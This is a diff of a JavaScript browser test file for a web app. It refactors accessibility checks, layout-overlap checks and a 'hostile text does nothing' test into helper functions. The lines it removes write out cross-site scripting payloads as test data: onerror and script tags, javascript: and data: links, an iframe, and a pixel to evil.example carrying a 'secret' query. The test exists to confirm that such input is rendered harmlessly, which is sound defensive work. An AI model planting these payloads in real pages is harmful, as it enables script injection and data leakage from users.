@@ -1,15 +1,12 @@
 // Every page: nothing serious for axe, nothing that sticks out, nothing that a hostile text could do; and the whole way by keyboard.
 
 import assert from 'node:assert/strict';
-import { readFileSync } from 'node:fs';
-import { createRequire } from 'node:module';
 import { after, test } from 'node:test';
 import { closeBrowser, openHouse } from './house.mjs';
-import { ask, execute, page as written, plan, together } from './parts.mjs';
+import { harmless, HOSTILE, NASTY, nothingSerious, nothingSticksOut, strangers } from './inspect.mjs';
+import { ask, page as written, plan, together } from './parts.mjs';
 
 after(closeBrowser);
-
-const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
 
 const play = ({ role, title, prompt }) => {
   if (role === 'tree_planner') return prompt.includes('Which') && !prompt.includes('"a"') ? ask('Which one?', ['a', 'b']) : plan('sides', ['Here', 'There']);
@@ -35,76 +32,25 @@ async function filled() {
 
 test('axe finds nothing serious on any page in either theme, wide or narrow', async () => {
   const { house, page, places } = await filled();
-  for (const colorScheme of ['light', 'dark']) {
-    for (const width of [1600, 375]) {
-      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
-      await page.setViewportSize({ width, height: 900 });
-      for (const place of places) {
-        await page.goto(house.url + place);
-        await page.getByRole('heading').first().waitFor();
-        // The page's policy forbids foreign scripts; the inspector comes in through the debugger.
-        await page.evaluate(axe);
-        const { violations } = await page.evaluate(() => window.axe.run(document, { resultTypes: ['violations'] }));
-        const serious = violations.filter((violation) => ['serious', 'critical'].includes(violation.impact));
-        assert.deepEqual(serious.map((violation) => `${violation.id}: ${violation.nodes[0].html}`), [], `${place} ${colorScheme} ${width}`);
-      }
-    }
-  }
+  await nothingSerious(page, house.url, places);
   await house.close();
 });
 
 test('nothing sticks out at 375, 768 and 1600 pixels', async () => {
   const { house, page, places } = await filled();
-  for (const width of [375, 768, 1600]) {
-    await page.setViewportSize({ width, height: 900 });
-    for (const place of places) {
-      await page.goto(house.url + place);
-      await page.getByRole('heading').first().waitFor();
-      assert.ok((await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)) <= 0, `${place} at ${width} scrolls sideways`);
-      const covered = await page.evaluate(overlaps);
-      assert.deepEqual(covered, [], `${place} at ${width}`);
-    }
-  }
+  await nothingSticksOut(page, house.url, places);
   await house.close();
 });
 
-/** Buttons and links that somebody cannot hit because another one lies on them. */
-function overlaps() {
-  const shown = [...document.querySelectorAll('main button, main a, main input')].filter((element) => {
-    const box = element.getBoundingClientRect();
-    return box.width > 0 && box.height > 0 && box.top >= 0 && box.bottom < innerHeight - 70 && box.left >= 0 && box.right <= innerWidth && getComputedStyle(element).visibility === 'visible' && !element.closest('[inert]');
-  });
-  return shown
-    .filter((element) => {
-      const box = element.getBoundingClientRect();
-      const top = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
-      const scrolled = element.closest('[role=tablist], .tabs');
-      return top && !scrolled && !element.contains(top) && !top.contains(element) && !top.closest('label, li, canvas, [role=tree], [role=slider], nav');
-    })
-    .map((element) => element.outerHTML.slice(0, 120));
-}
-
 test('e4 hostile text does nothing', async () => {
-  const hostile = '# <img src=x onerror="window.owned=1">\n\n<script>window.owned = 1</script>\n\n![pixel](https://evil.example/pixel.png?q=secret)\n\n[click](javascript:window.owned=1) [data](data:text/html,<script>1</script>)\n\n<iframe src="https://evil.example"></iframe> <a href="javascript:window.owned=1">x</a>\n\n[ok](https://example.org/)';
-  const nasty = '"><script>window.owned=1</script>';
-  const house = await openHouse(({ role, title }) => (role === 'tree_planner' ? plan(hostile, [`Step ${nasty}`]) : role === 'tree_executor' ? written(`Doc ${nasty}`, hostile, hostile) : together(`All ${title}`, hostile)));
+  const house = await openHouse(({ role, title }) => (role === 'tree_planner' ? plan(HOSTILE, [`Step ${NASTY}`]) : role === 'tree_executor' ? written(`Doc ${NASTY}`, HOSTILE, HOSTILE) : together(`All ${title}`, HOSTILE)));
   const page = await house.page();
-  const foreign = [];
-  page.on('request', (request) => {
-    if (!request.url().startsWith(house.url) && !request.url().startsWith('data:')) foreign.push(request.url());
-  });
-  page.on('dialog', (dialog) => foreign.push(dialog.message()));
-  const { id } = await house.api('POST', '/api/runs', { kind: 'tree', objective: `Beware ${nasty}` });
+  const foreign = strangers(page, house.url);
+  const { id } = await house.api('POST', '/api/runs', { kind: 'tree', objective: `Beware ${NASTY}` });
   await page.goto(`${house.url}/runs/${id}?view=report`);
   await page.getByText('image not loaded').first().waitFor();
   const { documents } = await house.api('GET', `/api/runs/${id}/workspace`);
-  for (const place of [`/runs/${id}`, `/runs/${id}?view=documents`, `/runs/${id}?view=events`, '/', ...documents.map((doc) => `/documents/${doc.id}`)]) {
-    await page.goto(house.url + place);
-    await page.getByRole('heading').first().waitFor();
-    const bad = await page.evaluate(() => [...document.querySelectorAll('main script, main iframe, main img, a[href^="javascript"], a[href^="data"]')].map((element) => element.outerHTML));
-    assert.deepEqual(bad, [], place);
-  }
-  assert.equal(await page.evaluate(() => window.owned), undefined);
+  await harmless(page, house.url, [`/runs/${id}`, `/runs/${id}?view=documents`, `/runs/${id}?view=events`, '/', ...documents.map((doc) => `/documents/${doc.id}`)]);
   assert.deepEqual(foreign, []);
   await house.close();
 });
